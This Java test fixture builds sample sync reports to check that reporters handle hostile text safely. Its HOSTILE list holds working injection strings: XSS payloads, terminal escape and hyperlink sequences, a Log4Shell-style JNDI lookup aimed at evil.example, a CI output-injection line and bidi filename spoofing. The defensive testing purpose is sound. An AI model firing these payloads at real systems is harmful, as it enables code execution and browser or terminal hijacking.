package dev.autosync.testkit;

import dev.autosync.ErrorCode;
import dev.autosync.SyncReport;
import dev.autosync.patch.BatchRun;
import dev.autosync.patch.Blame;
import dev.autosync.patch.Patch;
import dev.autosync.patch.PatchOutcome;
import dev.autosync.patch.RestoredFile;
import dev.autosync.testing.TestResult;
import dev.autosync.testing.TestRun;
import dev.autosync.testing.Verdict;
import dev.autosync.trend.Kpi;
import dev.autosync.trend.TrendReport;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;

/**
 * Reports of cycles that never were, for tests of reporters.
 *
 * <p>Called by tests. Threads: safe to share; the reports are immutable.
 *
 * @since 0.1.0
 */
public final class SampleReports {
    private static final List<String> HOSTILE = List.of(
            "\u001b[31mred\u001b[0m \u001b[2J\u001b]0;owned\u0007",
            "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
            "<script>alert(1)</script><img src=x onerror=alert(2)>",
            "\"><svg/onload=alert(3)>",
            "a | b | c |\n|---|---|\n# not a heading\n```\nnot code\n```",
            "first line\r\nsecond line\rthird\n\n::set-output name=x::y",
            "\u202egnp.exe\u202c \u2066isolated\u2069",
            "nul \0 bell \u0007 backspace \b\b\b\b escape \u009b31m",
            "[click](javascript:alert(4)) ![x](https://evil.example/x.png)",
            "${jndi:ldap://evil.example/a} {{7*7}} %s %n $1 \\1",
            "\ud83d\ude80 e\u0301 \u2028\u2029 \ufeff \ufffd \ud800",
            "x".repeat(3000));

    private SampleReports() {}

    /**
     * A green cycle in which nothing happened.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport empty(Path workspace) {
        return SampleReport.of(workspace, true, SampleBatch.EMPTY, List.of(), TrendReport.none(), List.of(), List.of());
    }

    /**
     * A cycle with every kind of outcome, KPIs and a warning.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport typical(Path workspace) {
        return report(workspace, List.of("text"));
    }

    /**
     * The same with hostile text wherever text of others may stand.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport hostile(Path workspace) {
        return report(workspace, HOSTILE);
    }

    /**
     * The hostile texts: escape sequences, markup, tables, line ends, bidirectional controls, templates, lone surrogates, length.
     *
     * @return each as it stands in {@link #hostile}
     */
    public static List<String> hostileTexts() {
        return HOSTILE;
    }

    private static SyncReport report(Path workspace, List<String> texts) {
        List<PatchOutcome> outcomes = new ArrayList<>();
        List<BatchRun> runs = new ArrayList<>();
        List<RestoredFile> restored = new ArrayList<>();
        List<Kpi> kpis = new ArrayList<>();
        for (int i = 0; i < texts.size(); i++) {
            String text = texts.get(i);
            TestRun red = run(Verdict.RED, text);
            runs.add(BatchRun.of(2 * i, List.of(), run(Verdict.GREEN, text)));
            runs.add(BatchRun.of(2 * i + 1, List.of("blamed-" + i), red));
            outcomes.addAll(outcomes(i, text, Blame.of(2 * i, 2 * i + 1, red.failures())));
            restored.add(RestoredFile.of("src/" + text, "0".repeat(64), "0".repeat(64)));
            kpis.add(Kpi.of("kpi " + text, 12.5 + i).target(10, Kpi.Direction.DOWN).weight(2).unit("ms " + text));
            kpis.add(Kpi.of("free " + text, -0.001));
        }
        SampleBatch batch = new SampleBatch(outcomes, runs, restored, texts);
        return SampleReport.of(workspace, false, batch, kpis, TrendReport.none(), List.of(), texts);
    }

    private static TestRun run(Verdict verdict, String text) {
        List<TestResult> results = new ArrayList<>();
        results.add(TestResult.of("org.example.SomeTest#adds " + text, TestResult.Status.PASSED, Duration.ofMillis(12), ""));
        results.add(TestResult.of("org.example.SomeTest#waits", TestResult.Status.SKIPPED, Duration.ZERO, "disabled: " + text));
        if (verdict == Verdict.RED) {
            results.add(TestResult.of("org.example.SomeTest#fails " + text, TestResult.Status.FAILED, Duration.ofSeconds(1), text));
        }
        return TestRun.of(verdict, verdict + ": " + text, results, Duration.ofMillis(1234)).output("output\n" + text);
    }

    private static List<PatchOutcome> outcomes(int i, String text, Blame blame) {
        return List.of(
                PatchOutcome.Applied.of(patch("applied-" + i, text), text, List.of("src/A.java", text)),
                PatchOutcome.AlreadyApplied.of(patch("already-applied-" + i, text), text),
                PatchOutcome.Ambiguous.of(patch("ambiguous-" + i, text), text, List.of("src/A.java:1", text + ":2")),
                PatchOutcome.Conflicted.of(patch("conflicted-" + i, text), text),
                PatchOutcome.Refused.of(patch("refused-" + i, text), text, ErrorCode.PATCH_MALFORMED),
                PatchOutcome.Blamed.of(patch("blamed-" + i, text), text, blame),
                PatchOutcome.Dropped.of(patch("dropped-" + i, text), text, List.of("blamed-" + i)),
                PatchOutcome.Undecided.of(patch("undecided-" + i, text), text));
    }

    private static Patch patch(String id, String text) {
        return Patch.builder(id, "write-file").target(Objects.requireNonNull(text)).content(text).description(text).build();
    }
}
